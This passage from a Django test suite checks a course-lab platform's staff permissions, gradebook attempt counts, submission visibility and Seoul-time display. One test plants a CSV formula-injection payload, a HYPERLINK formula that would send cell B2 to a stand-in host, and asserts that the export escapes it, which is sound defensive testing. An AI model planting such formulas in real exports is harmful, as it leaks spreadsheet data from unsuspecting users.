    client.force_login(arne)
    view_only = client.get(f"/admin/labs/assignment/{world.assignment.pk}/change/").content.decode()
    assert 'name="_save"' not in view_only  # an assistant looks, an instructor changes


def test_a_name_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(book_world) -> None:
    client, assignment = book_world
    MembershipFactory(
        run=assignment.run,
        user=UserFactory(username="-2+3", first_name='=HYPERLINK("http://x/?"&B2,"open")', email="@x.org"),
    )
    rows = client.get(f"/runs/spring/assignments/{assignment.pk}/gradebook.csv").content.decode("utf-8-sig")
    assert (
        rows.splitlines()[1] == '\'-2+3,"\'=HYPERLINK(""http://x/?""&B2,""open"")",\'@x.org,,0,no,,0,no,0.0'
    )


def test_a_course_author_who_teaches_no_run_may_look_but_not_change_a_students_terms(world: World) -> None:
    author = UserFactory(username="author")
    world.exercise.course.staff.add(author)
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(author)
    base = f"/runs/spring/assignments/{world.assignment.pk}/extensions/"
    assert client.get(base).status_code == 200
    assert client.post(base, extension_post(world)).status_code == 403
    assert client.post(f"{base}{world.extension.pk}/remove/").status_code == 403
    assert Extension.objects.filter(pk=world.extension.pk).exists()


def test_the_gradebook_counts_attempts_against_the_students_own_cap(world: World) -> None:
    Extension.objects.filter(pk=world.extension.pk).update(extra_attempts=2)
    book = client_for(world, "instructor").get(f"/runs/spring/assignments/{world.assignment.pk}/gradebook/")
    alice = book.content.decode().split('data-username="alice"')[1].split("</tr>")[0]
    bob = book.content.decode().split('data-username="bob"')[1].split("</tr>")[0]
    assert '<span class="meta" data-role="attempts">1/5 attempts</span>' in alice
    assert '<span class="meta" data-role="attempts">0/3 attempts</span>' in bob


def test_staff_do_not_see_what_a_student_practised_before_joining_their_run(world: World) -> None:
    earlier = SubmissionFactory(owner=world.users["student"], exercise=world.exercise, status=Status.DONE)
    joined = Membership.objects.get(run=world.run, user=world.users["student"]).created_at
    Submission.objects.filter(pk=earlier.pk).update(created_at=joined - timedelta(days=30))
    client = client_for(world, "instructor")
    assert client.get(f"/labs/submissions/{earlier.pk}/").status_code == 404
    assert client.get(f"/labs/submissions/{world.practice.pk}/").status_code == 200
    listed = client.get("/runs/spring/submissions/").content.decode()
    assert f'href="/labs/submissions/{earlier.pk}/"' not in listed
    assert f'href="/labs/submissions/{world.practice.pk}/"' in listed


def test_every_staff_page_shows_its_times_with_the_runs_zone(world: World) -> None:
    """The run is in Seoul; a moment at 05:00 UTC is 14:00 KST on every page that shows it."""
    moment = datetime(2027, 3, 2, 5, 0, 9, tzinfo=UTC)
    Assignment.objects.filter(pk=world.assignment.pk).update(due_at=moment)
    Extension.objects.filter(pk=world.extension.pk).update(due_at=moment)
    Submission.objects.filter(pk=world.submission.pk).update(created_at=moment)
    Regrade.objects.filter(pk=world.regrade.pk).update(created_at=moment)
    base = f"/runs/spring/assignments/{world.assignment.pk}/"
    instructor = client_for(world, "instructor")

    def page(path: str) -> str:
        response = instructor.get(path)
        assert response.status_code == 200, path
        return response.content.decode()

    assert "Due 2027-03-02 14:00 KST (Asia/Seoul)" in page(f"{base}gradebook/")
    student = world.users["student"].pk
    detail = page(f"{base}gradebook/students/{student}/")
    assert "Due 2027-03-02 14:00 KST (Asia/Seoul)" in detail
    assert '<td class="nowrap">2027-03-02 14:00:09 KST</td>' in detail
    assert '<td class="nowrap">2027-03-02 14:00 KST</td>' in page(f"{base}extensions/")
    assert '<td class="nowrap">2027-03-02 14:00 KST</td>' in page("/runs/spring/submissions/")
    assert "Started 2027-03-02 14:00 KST by" in page(f"{base}regrades/{world.regrade.pk}/")
    assert ">2027-03-02 14:00 KST</time>" in page("/runs/spring/")
    owner = Client(HTTP_ACCEPT_LANGUAGE="en")
    owner.force_login(world.users["student"])
    shown = owner.get(f"/labs/submissions/{world.submission.pk}/").content.decode()
    assert "<time>2027-03-02 14:00:09 KST</time>" in shown
